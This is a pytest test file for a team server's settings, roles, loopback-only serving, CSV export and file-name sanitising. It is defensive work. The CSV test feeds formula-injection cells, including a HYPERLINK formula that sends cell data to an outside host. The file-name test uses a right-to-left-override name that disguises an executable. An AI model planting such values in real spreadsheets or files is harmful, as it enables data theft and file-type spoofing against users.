"""The team server's rules on their own: the settings file, roles, single-user mode, serving, safe CSV, plain names."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pandas as pd
import pytest

from conftest import team_settings
from wildvision import access, spreadsheet, wording
from wildvision.settings import SettingsError, default_background_jobs, load_settings


def test_without_a_settings_file_the_defaults_hold(tmp_path):
    settings = load_settings(tmp_path / "absent.toml")
    assert settings.path is None and settings.members == {} and settings.role_claim is None
    assert settings.max_background_jobs == default_background_jobs() >= 2 and settings.max_jobs_per_person == 2
    assert not settings.serve_network_without_sign_in


def test_the_example_settings_file_in_the_docs_is_valid():
    settings = load_settings(os.path.join(os.path.dirname(__file__), "..", "docs", "settings.example.toml"))
    assert settings.members["ana@example.org"] == "reviewer" and settings.members["it@example.org"] == "admin"
    assert settings.max_background_jobs == 2 and str(settings.read_roots[-1]) == "/data/scrapes"


@pytest.mark.parametrize(
    "text, words",
    [
        ("[roles\n", "not valid TOML"),
        ('[roles]\nboss = ["a@b.org"]\n', "'boss'"),
        ('[roles]\nreviewer = ["not an address"]\n', "list of e-mail addresses"),
        ("[limits]\nbackground_jobs = 0\n", "background_jobs must be a whole number"),
        ('[roots]\nread = "/data"\n', "read must be a list"),
        ('[server]\nserve_network_without_sign_in = "yes"\n', "true or false"),
    ],
)
def test_a_wrong_settings_file_is_refused_naming_the_key(tmp_path, monkeypatch, text, words):
    path = team_settings(monkeypatch, tmp_path, text)
    with pytest.raises(SettingsError) as error:
        load_settings()
    assert words in str(error.value) and str(path) in str(error.value)


def test_roles_come_from_the_claim_first_then_the_address(tmp_path, monkeypatch):
    team_settings(monkeypatch, tmp_path, '[roles]\nclaim = "groups"\nreviewer = ["Ana@NGO.org"]\nadmin = ["ana@ngo.org"]\n')
    settings = load_settings()
    assert access.role_for("ana@ngo.org", {}, settings) == "admin", "the highest role listed for one address"
    assert access.role_for("rui@ngo.org", {"groups": ["viewer", "operator", "other"]}, settings) == "operator"
    assert access.role_for("ana@ngo.org", {"groups": "viewer"}, settings) == "viewer", "the provider's claim wins"
    assert access.role_for("eve@elsewhere.org", {"groups": ["staff"]}, settings) is None


def test_each_role_may_do_what_the_ones_before_it_may():
    viewer, reviewer = access.Person("v@x.org", "viewer", True), access.Person("r@x.org", "reviewer", True)
    operator, admin = access.Person("o@x.org", "operator", True), access.Person("a@x.org", "admin", True)
    stranger = access.Person("s@x.org", None, True)
    assert viewer.may("predict") and not viewer.may("decide")
    assert reviewer.may("decide") and not reviewer.may("screen")
    assert operator.may("export") and operator.may("cancel own job") and not operator.may("cancel anyone's job")
    assert admin.may("adopt a flagging line") and admin.may("cancel anyone's job")
    assert not stranger.may("view") and "not on this server's team list" in stranger.refusal("view")
    assert "you need the reviewer role" in viewer.refusal("decide") and "viewer role" in viewer.refusal("decide")
    assert operator.owns("o@x.org") and not operator.owns("a@x.org") and operator.owns("")


def test_single_user_mode_has_every_right_under_the_typed_name():
    person = access.single_user("  Ana ")
    assert person.identity == "Ana" and not person.signed_in and person.may("cancel anyone's job")


@pytest.mark.parametrize(
    "address, sign_in, forwarded, allowed",
    [
        ("127.0.0.1", False, False, True),
        ("localhost", False, False, True),
        ("::1", False, False, True),
        ("127.0.0.1", False, True, False),  # a reverse proxy in front: other machines reach it
        ("0.0.0.0", False, False, False),
        (None, False, False, False),  # no address: every interface
        ("192.168.1.20", False, False, False),
        ("0.0.0.0", True, True, True),
    ],
)
def test_without_sign_in_only_this_machine_is_served(tmp_path, address, sign_in, forwarded, allowed):
    settings = load_settings(tmp_path / "absent.toml")
    assert (access.serving_problem(address, sign_in, forwarded, settings) is None) == allowed


def test_serving_a_network_without_sign_in_needs_the_settings_to_say_so(tmp_path, monkeypatch):
    team_settings(monkeypatch, tmp_path, "[server]\nserve_network_without_sign_in = true\n")
    assert access.serving_problem("0.0.0.0", False, False, load_settings()) is None


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept():
    hostile = ['=HYPERLINK("http://host/?"&A1)', "+1+1", "-2+3", "@SUM(1+1).jpg", "\tx", "\rx"]
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_text(["name", "score"], [[cell, "-0.25"] for cell in hostile]))))
    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in hostile]
    assert {row[1] for row in rows[1:]} == {"-0.25"}
    frame = spreadsheet.frame_csv(pd.DataFrame({"=file": ["@x.jpg", "ok.jpg"], "drop": [-0.5, 0.25]}))
    assert frame.splitlines() == ["'=file,drop", "'@x.jpg,-0.5", "ok.jpg,0.25"]


def test_any_file_name_becomes_one_plain_line():
    assert wording.plain_name(os.fsdecode(b"caf\xe9.jpg")) == "caf\\xe9.jpg"
    assert wording.plain_name("one\nREADME line.jpg") == "one\\nREADME line.jpg"
    assert wording.plain_name("photo\u202egpj.exe") == "photo\\u202egpj.exe"
    assert wording.plain_name("café 猫 ![b](http://h/b.png).jpg") == "café 猫 ![b](http://h/b.png).jpg"


def test_the_shipped_config_serves_only_this_machine_and_hides_error_details():
    import tomllib

    config = tomllib.loads((Path(__file__).parents[1] / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert access.is_loopback(config["server"]["address"])
    assert config["client"]["showErrorDetails"] == "none"
